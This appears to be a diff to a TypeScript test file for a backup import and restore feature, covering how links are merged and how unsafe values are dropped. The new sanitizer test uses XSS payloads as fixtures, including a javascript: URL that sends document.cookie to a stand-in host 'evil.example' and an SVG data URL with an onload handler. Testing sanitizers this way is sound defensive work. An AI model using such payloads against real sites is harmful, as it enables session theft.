@@ -5,6 +5,7 @@ import type { BackupData } from '../../../lib/backup/format';
 import { importBackup } from '../../../lib/backup/import';
 import { parseBackup } from '../../../lib/backup/parse';
 import { restoreFromText } from '../../../lib/backup/restore';
+import { describeDropped } from '../../../lib/backup/unsafe-values';
 import { seedDatabase } from '../../../lib/backup/seed';
 import { TalkmarkDB } from '../../../lib/db/schema';
 import { listNotes } from '../../../lib/notes/notes-store';
@@ -160,6 +161,30 @@ describe('importBackup', () => {
     expect(await db.talks.get('b')).toMatchObject({ key: 'k2' });
   });
 
+  it('keeps the hand-added links of both copies of a talk, whichever copy is newer', async () => {
+    await db.talks.bulkAdd([
+      makeTalk({ id: 'older-in', key: 'k1', title: 'Local', links: ['https://a.example/1', 'https://a.example/2'], updatedAt: 500 }),
+      makeTalk({ id: 'newer-in', key: 'k2', title: 'Local', links: ['https://b.example/local'], updatedAt: 100 }),
+      makeTalk({ id: 'by-key', key: 'k3', links: ['https://c.example/local'], updatedAt: 100 }),
+      makeTalk({ id: 'same', key: 'k4', links: ['https://d.example/x'], updatedAt: 100 }),
+    ]);
+    const data = emptyData();
+    data.talks = [
+      makeTalk({ id: 'older-in', key: 'k1', title: 'Incoming', links: ['HTTPS://A.example/1', 'https://a.example/3'], updatedAt: 50 }),
+      makeTalk({ id: 'newer-in', key: 'k2', title: 'Incoming', links: ['https://b.example/theirs', 'https://b.example/local'], updatedAt: 900 }),
+      makeTalk({ id: 'other-id', key: 'k3', links: ['https://c.example/theirs'], updatedAt: 900 }),
+      makeTalk({ id: 'same', key: 'k4', links: ['https://d.example/x'], updatedAt: 50 }),
+    ];
+    const summary = await importBackup(db, backupOf(data));
+    const talk = async (id: string) => (await db.talks.get(id))!;
+    // Older incoming copy: the local talk stays, plus the one link only the file had (a.example/1 is the same URL).
+    expect(await talk('older-in')).toMatchObject({ title: 'Local', links: ['https://a.example/1', 'https://a.example/2', 'https://a.example/3'], updatedAt: 500 });
+    // Newer incoming copy: its fields win, the local-only link is not lost.
+    expect(await talk('newer-in')).toMatchObject({ title: 'Incoming', links: ['https://b.example/theirs', 'https://b.example/local'] });
+    expect(await talk('by-key')).toMatchObject({ links: ['https://c.example/theirs', 'https://c.example/local'] });
+    expect(summary.talks).toEqual({ added: 0, updated: 3, unchanged: 1 });
+  });
+
   it('adds missing settings and keeps local values', async () => {
     await db.settings.add({ key: 'theme', value: 'dark' });
     const data = emptyData();
@@ -194,7 +219,23 @@ describe('restoreFromText', () => {
 
   it('imports a good file', async () => {
     const r = await restoreFromText(db, serializeBackup(backupOf(v1Data())));
-    expect(r).toMatchObject({ ok: true, summary: { talks: { added: 5 } } });
+    expect(r).toMatchObject({ ok: true, summary: { talks: { added: 5 } }, dropped: [] });
+  });
+
+  it('restores a file with hostile links without storing them, and says what it left out', async () => {
+    const data = v1Data();
+    const talk = data.talks[0]!;
+    talk.videoUrl = 'javascript:alert(document.domain)';
+    talk.links.push(' JavaScript:fetch("//evil.example/"+document.cookie)');
+    talk.speakers[0]!.avatarUrl = 'data:image/svg+xml,<svg onload=alert(1)>';
+    const r = await restoreFromText(db, serializeBackup(backupOf(data)));
+    if (!r.ok) throw new Error(r.error);
+    expect(r.dropped.map((d) => d.path)).toEqual(['data.talks[0].speakers[0].avatarUrl', 'data.talks[0].videoUrl', 'data.talks[0].links[1]']);
+    expect(describeDropped(r.dropped)).toMatch(/^Left out 3 values that were not safe to restore: data\.talks\[0\]\.speakers\[0\]\.avatarUrl \(a data: link\), .*javascript: link/);
+    const stored = JSON.stringify((await exportBackup(db)).data);
+    expect(stored).not.toMatch(/javascript:|data:image|evil\.example/i);
+    expect(await db.notes.count()).toBe(data.notes.length);
+    expect((await db.talks.get(talk.id))?.links).toEqual(['https://blog.example.com/pgbouncer-notes']);
   });
 
   it('reports a closed database', async () => {
